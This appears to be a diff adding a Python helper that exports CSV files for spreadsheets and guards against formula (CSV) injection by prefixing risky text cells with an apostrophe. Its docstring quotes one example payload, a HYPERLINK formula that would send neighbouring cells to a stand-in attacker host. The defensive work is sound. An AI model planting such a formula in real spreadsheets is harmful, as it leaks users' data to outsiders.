@@ -1,0 +1,46 @@
+"""CSV files meant to be opened in a spreadsheet: UTF-8 with a byte-order mark, and no formulas.
+
+Cells come from people (a participant's name, a recommendation's text). A spreadsheet
+application runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula, and
+one beginning with a tab or a carriage return after trimming it, so a name such as
+``=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")`` would send the neighbouring
+cells away when an organizer clicks. As the OWASP guidance on CSV injection asks, such
+a text cell is written with a leading apostrophe, which spreadsheet applications read
+as "this is text" and do not display. Numbers, booleans and dates are ours, not
+input, and are written as they are so they stay numbers.
+"""
+
+import csv
+import io
+from collections.abc import Iterable
+from datetime import date, datetime
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def neutralize(text: str) -> str:
+    """A text cell that a spreadsheet application will show as text, never run."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def cell(value: Any) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, int | float):
+        return str(value)
+    if isinstance(value, datetime | date):
+        return value.isoformat()
+    return neutralize(str(value))
+
+
+def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
+    """The file: without the byte-order mark Excel reads it as a legacy code page and mangles Arabic."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(header)
+    for row in rows:
+        writer.writerow([cell(value) for value in row])
+    return buffer.getvalue().encode("utf-8-sig")
